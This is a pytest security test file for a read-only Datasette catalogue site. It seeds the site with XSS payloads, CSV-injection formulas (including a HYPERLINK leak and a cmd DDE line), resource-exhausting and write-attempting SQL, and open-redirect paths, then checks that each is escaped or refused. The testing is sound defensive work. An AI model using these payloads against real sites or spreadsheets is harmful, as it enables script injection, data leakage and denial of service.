"""The public site is read-only and safe, proved against a real `paradecat serve` on 127.0.0.1.

A hostile catalogue, with script and `javascript:` payloads in every free-text field, is
validated and built by the real pipeline and served. The tests crawl it and check every page's
markup, run the JavaScript pages in a real browser, send pathological SQL while other requests
must still be answered, try the open redirect Datasette 0.65.5 has, and check that the JSON API,
the CSV export and the .db download hold nothing but the catalogue.
"""

from __future__ import annotations

import csv
import hashlib
import http.client
import io
import json
import shutil
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urljoin, urlsplit

import pytest

from paradecat.check.validate import validate_catalog
from paradecat.db import formulas
from paradecat.db.build import table_names
from paradecat.model import FOLDER_KINDS
from paradecat.site.security import MAX_RESULT_BYTES, safe_location
from paradecat.site.serve import SETTINGS, load_metadata

from .conftest import METADATA, REPO
from .servers import running_serve

MARK = "pc_xss"
# one value that tries every way out: a tag, an event handler, breaking out of a double- or
# single-quoted attribute, and a javascript: URL
PAYLOAD = (
    f"<script>{MARK}()</script><img src=x onerror={MARK}()>"
    f"\"><svg onload={MARK}()>' onmouseover='{MARK}() javascript:{MARK}()"
)
URL_PAYLOAD = f'https://example.org/"><script>{MARK}()</script>'
# cells a spreadsheet would run (OWASP's CSV injection examples)
FORMULAS = (
    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
MODELINE = "# yaml-language-server: $schema=../../schema/{kind}.schema.json\n"


def q(value: str) -> str:
    """A YAML double-quoted scalar."""
    return json.dumps(value, ensure_ascii=False)


P = q(PAYLOAD)
HOSTILE_FILES = {
    "sources/hostile-source.yaml": f"""id: hostile-source
url: {q(URL_PAYLOAD)}
archive_url: "https://example.org/'onmouseover='{MARK}()"
title: {P}
publisher: {P}
author: {P}
published: 2025-05-08
language: en
notes: {P}
""",
    "systems/hostile-system.yaml": f"""id: hostile-system
name: {P}
names:
  - {{name: {P}, lang: kk, note: {P}}}
category: armoured_vehicles
class: tank
manufacturer: {P}
origin: [KZ]
based_on: {{name: {P}, system: plain-system, source: hostile-source}}
description: {P}
sources: [hostile-source]
claims:
  - {{field: manufacturer, value: {q(PAYLOAD + "!")}, source: hostile-source, quote: {P}, rank: deprecated, note: {P}}}
notes: {P}
""",
    "systems/plain-system.yaml": f"""id: plain-system
name: Plain system
names: [{{name: {q(FORMULAS[2])}, lang: en}}]
category: armoured_vehicles
class: tank
manufacturer: {q(FORMULAS[0])}
description: {q(FORMULAS[1])}
sources: [hostile-source]
""",
    "units/hostile-unit.yaml": f"""id: hostile-unit
name: {P}
names: [{{name: {P}, lang: ru}}]
country: KZ
branch: {P}
honorific: {P}
home_base: {P}
sources: [hostile-source]
""",
    "people/hostile-person.yaml": f"""id: hostile-person
name: {P}
names: [{{name: {P}, lang: kk, note: {P}}}]
posts: [{{title: {P}, source: hostile-source, quote: {P}}}]
description: {P}
sources: [hostile-source]
quotes: [{{source: hostile-source, text: {P}}}]
notes: {P}
""",
    "parades/2025-05-07-hostile.yaml": f"""id: 2025-05-07-hostile
name: {P}
kind: military_parade
date: 2025-05-07
city: {P}
country: KZ
venue: {P}
coordinates: {{latitude: 51.1226, longitude: 71.4663}}
occasions: [{P}]
reviewing_official: {{person: hostile-person, rank: {P}, source: hostile-source, quote: {P}}}
commander: {{name: {P}, rank: {P}, source: hostile-source}}
personnel: {{value: 4000, qualifier: over, source: hostile-source, note: {P}, quote: {P}}}
aircraft: {{value: 66, source: hostile-source, quote: {q(PAYLOAD + " 66")}}}
appearances:
  - {{system: hostile-system, reported_as: {P}, segment: mechanized_column, identification: disputed, count: {{value: 3, note: {P}, quote: {q(PAYLOAD + " three")}}}, note: {P}, quotes: [{{source: hostile-source, text: {P}}}]}}
  - {{system: plain-system, reported_as: {P}, segment: mechanized_column, identification: confirmed, quotes: [{{source: hostile-source, text: {q(PAYLOAD + " plain")}}}]}}
contingents:
  - {{country: KZ, unit: hostile-unit, name: {P}, personnel: {{value: 80, quote: {q(PAYLOAD + " 80")}}}, commander: {{name: {P}, rank: {P}}}, note: {P}}}
claims:
  - {{field: date, value: "2025-05-08", source: hostile-source, quote: {P}, rank: deprecated, note: {P}}}
sources: [hostile-source]
notes: {P}
""",
}


@dataclass
class Site:
    """A running hostile site: its base URL, database, catalogue root and server process."""

    base: str
    db: Path
    root: Path
    process: subprocess.Popen[bytes]

    @property
    def port(self) -> int:
        """The port it listens on."""
        return int(urlsplit(self.base).port or 0)


@dataclass
class Response:
    """One HTTP response, read whole."""

    status: int
    headers: dict[str, str]
    body: bytes
    seconds: float

    @property
    def text(self) -> str:
        """The body as text."""
        return self.body.decode("utf-8", "replace")


def get(site: Site, path: str, timeout: float = 30) -> Response:
    """GET a raw path (not re-encoded, so '/\\example.com/' goes out as written)."""
    connection = http.client.HTTPConnection("127.0.0.1", site.port, timeout=timeout)
    start = time.perf_counter()
    try:
        connection.request("GET", path)
        response = connection.getresponse()
        body = response.read()
    finally:
        connection.close()
    headers = {k.lower(): v for k, v in response.getheaders()}
    return Response(response.status, headers, body, time.perf_counter() - start)


def query(site: Site, sql: str) -> Response:
    """Run SQL through the JSON API."""
    return get(site, "/paradecat.json?" + urlencode({"sql": sql}))


def write_hostile_catalogue(root: Path) -> None:
    """The hostile catalogue's YAML files under root/catalog/."""
    for rel, text in HOSTILE_FILES.items():
        path = root / "catalog" / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        kind = FOLDER_KINDS[path.parent.name]
        path.write_text(MODELINE.format(kind=kind) + text, encoding="utf-8")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The hostile catalogue, validated and built by the real pipeline, served on 127.0.0.1."""
    work = tmp_path_factory.mktemp("hostile-site")
    root = work / "repo"
    write_hostile_catalogue(root)
    shutil.copy(METADATA, root / "metadata.yml")
    result = validate_catalog(root)
    errors = [p for p in result.problems if p.severity == "error"]
    assert not errors, errors
    db = work / "served" / "paradecat.db"
    db.parent.mkdir()
    paradecat = str(Path(sys.executable).parent / "paradecat")
    built = subprocess.run(
        [paradecat, "build", "--root", str(root), "--db", str(db)], capture_output=True, timeout=120
    )
    assert built.returncode == 0, built.stderr
    with running_serve(root, db, "--no-build", log=work / "serve.log") as server:
        yield Site(server.base, db, root, server.process)


# --- escaping -----------------------------------------------------------------------------------


class MarkupCheck(HTMLParser):
    """Collects every place where the payload became markup instead of text."""

    URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_script = False
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.in_script = tag == "script"
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and MARK in value:
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in self.URL_ATTRIBUTES:
                if value.strip().lower().startswith("javascript:"):
                    self.found.append(f"<{tag} {name}={value!r}>")
                if tag == "a" and name == "href":
                    self.links.append(value)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip().startswith(MARK):
            self.found.append(f"<script>{data.strip()[:40]}")


def unsafe_markup(html: str) -> list[str]:
    """Where a page lets the payload run: tags, handlers or javascript: links it created."""
    check = MarkupCheck()
    check.feed(html)
    check.close()
    raw = [
        s
        for s in (f"<script>{MARK}", f"<img src=x onerror={MARK}", f"<svg onload={MARK}")
        if s in html
    ]
    return check.found + raw


def test_the_markup_check_finds_unescaped_payloads() -> None:
    assert unsafe_markup(f"<p>{PAYLOAD}</p>")  # unescaped, it must be caught
    assert unsafe_markup('<a href=" JavaScript:alert(1)">x</a>')
    assert unsafe_markup(f'<div title="x" onmouseover="{MARK}()">')
    escaped = PAYLOAD.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    assert unsafe_markup(f"<p>{escaped.replace(chr(39), '&#39;')}</p>") == []
    embedded = json.dumps(PAYLOAD).replace("<", "\\u003c")
    assert unsafe_markup(f"<script>var data = {embedded};</script>") == []


def test_the_validator_rejects_a_javascript_url(tmp_path: Path) -> None:
    write_hostile_catalogue(tmp_path)
    source = tmp_path / "catalog" / "sources" / "hostile-source.yaml"
    text = source.read_text(encoding="utf-8").replace(q(URL_PAYLOAD), f'"javascript:{MARK}()"')
    source.write_text(text, encoding="utf-8")
    problems = [p for p in validate_catalog(tmp_path).problems if p.code == "invalid-format"]
    assert [(p.pointer, p.line) for p in problems] == [("/url", 3)]
    assert "is not an http(s) URL" in problems[0].message


def crawl(site: Site, start: list[str], limit: int) -> dict[str, str]:
    """Same-site HTML pages reachable from start (breadth first, at most limit): path -> HTML."""
    seen: dict[str, str] = {}
    queue = list(start)
    while queue and len(seen) < limit:
        path = queue.pop(0)
        if path in seen:
            continue
        response = get(site, path)
        assert response.status in (200, 302, 400, 404), (path, response.status)
        if "text/html" not in response.headers.get("content-type", ""):
            continue
        seen[path] = response.text
        check = MarkupCheck()
        check.feed(response.text)
        for link in check.links:
            target = urlsplit(urljoin(site.base + path, link))
            if target.netloc != urlsplit(site.base).netloc or target.path.endswith(
                (".db", ".csv", ".json")
            ):
                continue
            queue.append(target.path + (f"?{target.query}" if target.query else ""))
    return seen


def start_pages(site: Site) -> list[str]:
    """Every table and view, every row of the hostile entries, searches, charts and queries."""
    pages = ["/", "/paradecat", f"/-/search?q={MARK}", "/-/search?q=script"]
    pages += ["/-/dashboards", "/-/dashboards/overview"]
    with sqlite3.connect(f"file:{site.db}?mode=ro", uri=True) as conn:
        relations = [
            r[0]
            for r in conn.execute(
                "select name from sqlite_master where type in ('table', 'view')"
                " and name not like '%fts%' and name not like 'sqlite_%'"
            )
        ]
        for name in relations:
            pages += [f"/paradecat/{name}", f"/paradecat/{name}?_search={MARK}"]
        for table in ("sources", "systems", "units", "parades"):
            pages += [
                f"/paradecat/{table}/{row[0]}" for row in conn.execute(f"select id from {table}")
            ]
        for table in ("appearances", "contingents", "claims", "citations"):
            pages += [
                f"/paradecat/{table}/{row[0]}" for row in conn.execute(f"select id from {table}")
            ]
    queries = load_metadata(METADATA)["databases"]["paradecat"].get("queries", {})
    pages += [f"/paradecat/{name}" for name in queries]
    pages += ["/paradecat?" + urlencode({"sql": "select * from parades"})]
    return pages


def test_every_page_escapes_the_payload(site: Site) -> None:
    pages = crawl(site, start_pages(site), limit=400)
    assert len(pages) >= 60, sorted(pages)
    shown = 0
    for path, html in pages.items():
        assert unsafe_markup(html) == [], path
        shown += "&lt;script&gt;pc_xss()" in html
    # the payload is on the pages, as text
    assert shown >= 20, shown


def strings(data: Any) -> set[str]:
    """Every string in parsed JSON."""
    if isinstance(data, str):
        return {data}
    if isinstance(data, dict):
        return set().union(*(strings(v) for v in data.values())) if data else set()
    if isinstance(data, list):
        return set().union(*(strings(v) for v in data)) if data else set()
    return set()


def test_json_and_csv_are_never_read_as_html(site: Site) -> None:
    for table in ("systems", "parades", "sources", "claims"):
        data = get(site, f"/paradecat/{table}.json")
        assert data.headers["content-type"].startswith("application/json")
        assert data.headers["x-content-type-options"] == "nosniff"
        assert PAYLOAD in strings(json.loads(data.body))  # the data, unchanged
        csv = get(site, f"/paradecat/{table}.csv")
        assert csv.headers["content-type"].split(";")[0] in ("text/plain", "text/csv")
        assert csv.headers["x-content-type-options"] == "nosniff"
        assert MARK in csv.text


@pytest.mark.skipif(not Path("/usr/bin/chromium").exists(), reason="needs Debian's chromium")
def test_no_payload_runs_in_a_browser(site: Site) -> None:
    """The pages that build markup in JavaScript (map popups, charts, search) run no payload."""
    from playwright.sync_api import sync_playwright

    from .test_browser import CHROMIUM, CHROMIUM_ARGS

    pages = ["/paradecat/parades", "/paradecat/parades/2025-05-07-hostile"]
    pages += ["/paradecat/systems/hostile-system", f"/-/search?q={MARK}", "/-/dashboards/overview"]
    pages += ["/paradecat/sources", "/paradecat/people/hostile-person", "/paradecat/people", "/"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            page.add_init_script(
                f"window.{MARK} = () => {{ window.__ran = (window.__ran || 0) + 1 }}"
            )
            page.route(
                "**/*",
                lambda route, request: (
                    route.continue_()
                    if urlsplit(request.url).hostname == "127.0.0.1"
                    else route.abort()
                ),
            )
            for path in pages:
                page.goto(site.base + path, wait_until="networkidle")
                if path == "/paradecat/parades":
                    # the map builds its popups from the row data in JavaScript
                    page.wait_for_selector(".leaflet-marker-icon", timeout=15_000)
                    page.locator(".leaflet-marker-icon").first.click()
                    popup = page.wait_for_selector(".leaflet-popup-content", timeout=15_000)
                    assert popup is not None
                    assert "<script>" in popup.inner_text()  # shown as text
                assert page.evaluate("window.__ran || 0") == 0, path
        finally:
            browser.close()


# --- read-only, bounded SQL -----------------------------------------------------------------------


def test_serve_runs_immutable_with_limits_and_no_writable_queries(site: Site) -> None:
    databases = json.loads(get(site, "/-/databases.json").body)
    assert [(d["name"], d["is_mutable"], d["is_memory"]) for d in databases] == [
        ("paradecat", False, False)
    ]
    settings = json.loads(get(site, "/-/settings.json").body)
    assert settings["sql_time_limit_ms"] == SETTINGS["sql_time_limit_ms"] == 1000
    assert settings["max_returned_rows"] == SETTINGS["max_returned_rows"] == 1000
    queries = load_metadata(METADATA)["databases"]["paradecat"].get("queries", {})
    assert queries and not [name for name, q in queries.items() if q.get("write")]
    for sql in (
        "insert into systems (id, name, category, class) values ('x', 'x', 'x', 'x')",
        "update systems set name = 'x'",
        "drop table systems",
        "pragma writable_schema = 1",
        "attach database '/tmp/x.db' as x",
        "select load_extension('/tmp/x')",
    ):
        response = query(site, sql)
        assert response.status == 400, (sql, response.text[:200])
        assert json.loads(response.body)["ok"] is False


def test_a_pathological_query_stops_within_the_limit_while_others_are_answered(
    site: Site,
) -> None:
    with sqlite3.connect(f"file:{site.db}?mode=ro", uri=True) as conn:
        rows = conn.execute("select count(*) from citations").fetchone()[0]
    joins = 2
    while rows**joins < 10**10:
        joins += 1
    cross_join = "select count(*) from " + ", ".join(f"citations t{i}" for i in range(joins))
    recursive = (
        "with recursive c(x) as (select 1 union all select x + 1 from c) select count(*) from c"
    )
    results: dict[str, list[Response]] = {}
    answered: list[Response] = []
    stop = threading.Event()

    def slow(name: str, sql: str) -> None:
        # twice in a row: about two seconds of pathological load, so that a request that waits
        # out one query's limit (below) still leaves time for others to be answered
        results[name] = [query(site, sql) for _ in range(2)]

    def others() -> None:
        while not stop.is_set():
            answered.append(get(site, "/paradecat/systems.json?_size=5"))

    threads = [
        threading.Thread(target=slow, args=a) for a in (("cte", recursive), ("join", cross_join))
    ]
    prober = threading.Thread(target=others)
    prober.start()
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    stop.set()
    prober.join(timeout=60)
    limit = SETTINGS["sql_time_limit_ms"] / 1000
    for name, responses in results.items():
        for response in responses:
            assert response.status == 400, name
            assert "SQL query took too long" in json.loads(response.body)["error"], name
            assert response.seconds < limit + 2.0, (name, response.seconds)
    assert len(results) == 2
    # the server went on answering while both ran. A request can wait for as long as the limit
    # (seen in about one run in four, with either query alone too): never longer.
    assert len(answered) >= 2, len(answered)
    assert all(r.status == 200 for r in answered)
    assert max(r.seconds for r in answered) < limit + 2.0, [round(r.seconds, 2) for r in answered]
    assert get(site, "/paradecat/systems.json").status == 200


def test_a_query_returns_at_most_max_returned_rows(site: Site) -> None:
    response = query(
        site,
        "with recursive c(x) as (select 1 union all select x + 1 from c limit 5000) select x from c",
    )
    data = json.loads(response.body)
    assert response.status == 200
    assert len(data["rows"]) == SETTINGS["max_returned_rows"] and data["truncated"] is True


@pytest.mark.parametrize(
    "sql, error",
    [
        ("select length(randomblob(900000000))", "string or blob too big"),
        ("select length(printf('%.*c', 100000000, 'x')) is null", None),
        (
            "with recursive c(x) as (select 1 union all select x + 1 from c limit 3) select "
            + ", ".join(["zeroblob(999999)"] * 100)
            + " from c",
            "larger than",
        ),
        ("select " + ", ".join(["1"] * 101), "too many columns"),
    ],
    ids=["one-huge-value", "huge-printf-width", "huge-result", "too-many-columns"],
)
def test_queries_that_build_huge_values_fail_fast(site: Site, sql: str, error: str | None) -> None:
    """SQLite checks the time limit only between steps, and rendering is not timed at all."""
    response = query(site, sql)
    assert response.seconds < 5.0, response.seconds
    if error is None:
        assert json.loads(response.body)["rows"] == [[1]]  # capped: the value is NULL
    else:
        assert response.status == 400
        assert error in json.loads(response.body)["error"]
    assert MAX_RESULT_BYTES < 10**8


# a 1 MB text of 'a' (and of 'b'), built in one call each
_A = "replace(hex(zeroblob(499999)), '0', 'a')"
_B = "replace(hex(zeroblob(499999)), '0', 'b')"


@pytest.mark.parametrize(
    "sql, expected, error",
    [
        # each of these used to run for seconds inside one SQLite step, past the 1 s limit
        ("select printf('%.*c', 2147483647, 'x') is null", 1, None),  # 12.8 s
        ("select length(printf('%2147483647d', 1)) is null", 1, None),
        (f"select instr({_A} || 'b', substr({_A}, 1, 500000) || 'b')", 499999, None),  # 5.6 s
        (f"select length(replace({_A} || 'b', substr({_A}, 1, 500000) || 'b', 'x'))", 499999, None),
        (f"select length(trim({_B}, substr({_A}, 1, 100000) || 'b'))", 0, None),  # 6 s at 50,000
        (f"select length(rtrim({_B}, substr({_A}, 1, 100000) || 'b'))", 0, None),
        (f"select {_A} like '%' || substr({_A}, 1, 24000) || 'b%'", None, "pattern too complex"),
        (f"select {_A} glob '*' || substr({_A}, 1, 24000) || 'b*'", None, "pattern too complex"),
        (f"select length(replace({_A}, 'a', 'aa'))", None, "string or blob too big"),
    ],
    ids=[
        "printf-precision",
        "printf-width",
        "instr",
        "replace",
        "trim",
        "rtrim",
        "like",
        "glob",
        "replace-growth",
    ],
)
def test_no_single_function_call_outlasts_the_limit(
    site: Site, sql: str, expected: int | None, error: str | None
) -> None:
    """One function call is one SQLite step, and the time limit is checked only between steps."""
    response = query(site, sql)
    assert response.seconds < 3.0, response.seconds
    if error is None:
        assert response.status == 200, response.body[:300]
        assert json.loads(response.body)["rows"] == [[expected]]
    else:
        assert response.status == 400
        assert error in json.loads(response.body)["error"]


def test_three_slow_calls_at_once_leave_the_site_answering(site: Site) -> None:
    """Three such requests used to occupy all three SQL threads for 31.6 s."""
    sql = f"select instr({_A} || 'b', substr({_A}, 1, 500000) || 'b')"
    with ThreadPoolExecutor(4) as pool:
        slow = [pool.submit(query, site, sql) for _ in range(3)]
        time.sleep(0.05)
        home = get(site, "/paradecat/parades.json")
        assert home.status == 200 and home.seconds < 3.0, home.seconds
        assert all(f.result().seconds < 5.0 for f in slow)


@pytest.mark.parametrize(
    "path",
    [
        "/paradecat/systems.csv",
        "/paradecat/systems.csv?_stream=on&_dl=1",
        "/paradecat/system_names.csv",
        "/paradecat.csv?"
        + urlencode(
            {
                "sql": "select manufacturer, description, -3.75 as longitude, '-2+3' as sum from systems"
            }
        ),
    ],
)
def test_no_csv_cell_runs_as_a_formula(site: Site, path: str) -> None:
    response = get(site, path)
    assert response.status == 200
    cells = [cell for row in csv.reader(io.StringIO(response.body.decode())) for cell in row]
    for cell in cells:
        assert not cell.startswith(formulas.FORMULA_STARTS) or formulas._NUMBER.match(cell), cell
    shown = [f for f in FORMULAS if "'" + f in cells]
    assert shown, cells[:20]  # the payload is there, as text
    if "sql=" in path:
        assert "-3.75" in cells and "'-2+3" in cells


def test_an_export_keeps_formulas_as_text(site: Site, tmp_path: Path) -> None:
    out = tmp_path / "release"
    paradecat = str(Path(sys.executable).parent / "paradecat")
    done = subprocess.run(
        [paradecat, "export", "--root", str(site.root), "--out", str(out)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    for name, column, formula in (
        ("systems", "manufacturer", FORMULAS[0]),
        ("systems", "description", FORMULAS[1]),
        ("system_names", "name", FORMULAS[2]),
    ):
        with (out / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
            values = [row[column] for row in csv.DictReader(handle)]
        assert "'" + formula in values and formula not in values
        # the JSON keeps the value as written: no spreadsheet reads it
        assert formula in [r[column] for r in json.loads((out / f"{name}.json").read_text())]


# --- nothing outside the catalogue ------------------------------------------------------------------


def test_the_api_exposes_only_the_catalogue(site: Site) -> None:
    assert get(site, "/_memory").status == 404
    assert get(site, "/_memory.json?sql=select+1").status == 404
    assert get(site, "/_internal").status in (403, 404)
    assert get(site, "/_internal.db").status in (403, 404)
    listed = json.loads(get(site, "/paradecat.json").body)
    names = {t["name"] for t in listed["tables"]} | {v["name"] for v in listed["views"]}
    ours = set(table_names())
    # the planner's statistics (sqlite_stat1) are listed as hidden, like the full-text tables
    hidden = {t["name"] for t in listed["tables"] if t.get("hidden")}
    assert "sqlite_stat1" in hidden
    outside = {
        n
        for n in names - {"sqlite_stat1"}
        if n not in ours and not any(n.startswith(f"{t}_fts") for t in ours)
    }
    assert outside == set()
    # the .db download is the built file, byte for byte
    download = get(site, "/paradecat.db")
    assert download.status == 200
    assert hashlib.sha256(download.body).digest() == hashlib.sha256(site.db.read_bytes()).digest()
    # nothing names the server's folders, except the database path Datasette lists
    for path in (
        "/-/versions.json",
        "/-/plugins.json",
        "/-/settings.json",
        "/-/metadata.json",
        "/-/threads.json",
        "/-/actor.json",
        "/-/databases.json",
        "/paradecat.json",
        "/paradecat/systems.json",
        "/paradecat/systems.csv",
        "/no-such-page",
        "/paradecat.json?sql=select+*+from+no_such_table",
    ):
        text = get(site, path).text.replace(str(site.db), "")
        for secret in (str(site.root), str(site.db.parent), sys.prefix, str(REPO)):
            assert secret not in text, (path, secret)


def test_the_database_file_was_never_written(site: Site) -> None:
    before = site.db.stat().st_mtime_ns
    query(site, "select count(*) from systems")
    get(site, "/paradecat/systems")
    assert site.db.stat().st_mtime_ns == before
    with sqlite3.connect(f"file:{site.db}?mode=ro", uri=True) as conn:
        assert conn.execute("pragma integrity_check").fetchone() == ("ok",)


# --- redirects and headers ---------------------------------------------------------------------------


def browser_target(base: str, location: str) -> str:
    """Where a browser goes for a Location header: it reads '\\' as '/' and drops tabs."""
    return urljoin(base + "/", location.replace("\\", "/").replace("\t", "").lstrip(" "))


@pytest.mark.parametrize(
    "path",
    [
        "/\\example.com/",
        "/\\/example.com/",
        "//example.com/",
        "/\\\\example.com/foo/",
        "/%5Cexample.com/",
    ],
)
def test_redirects_stay_on_the_site(site: Site, path: str) -> None:
    response = get(site, path)
    assert response.status in (301, 302)
    target = browser_target(site.base, response.headers["location"])
    assert urlsplit(target).netloc == urlsplit(site.base).netloc, response.headers["location"]


@pytest.mark.parametrize(
    "location, safe",
    [
        ("/\\example.com", "/example.com"),
        ("\\/example.com", "/example.com"),
        ("//example.com/a", "/example.com/a"),
        ("/\t/example.com", "/example.com"),
        (" //example.com", "/example.com"),
        ("https://example.com/", "/"),
        ("javascript:alert(1)", "/"),
        ("http://127.0.0.1:8001/paradecat", "http://127.0.0.1:8001/paradecat"),
        ("/paradecat/systems?_sort=name", "/paradecat/systems?_sort=name"),
        ("?_search=tor", "?_search=tor"),
    ],
)
def test_safe_location(location: str, safe: str) -> None:
    assert safe_location(location, "127.0.0.1:8001") == safe


def test_every_response_carries_the_security_headers(site: Site) -> None:
    for path in ("/", "/paradecat/systems", "/paradecat/systems.json", "/paradecat.db", "/nope"):
        headers = get(site, path).headers
        assert headers["x-content-type-options"] == "nosniff", path
        assert headers["x-frame-options"] == "DENY", path
        assert "frame-ancestors 'none'" in headers["content-security-policy"], path


def test_the_in_process_client_gets_the_same_protection(built_db: Path) -> None:
    import asyncio

    from paradecat.site.serve import make_datasette

    ds = make_datasette(built_db, METADATA)

    async def fetch() -> Any:
        return await ds.client.get("/\\example.com/")

    response = asyncio.run(fetch())
    assert response.status_code == 302
    assert response.headers["location"] == "/example.com"
    assert response.headers["x-content-type-options"] == "nosniff"
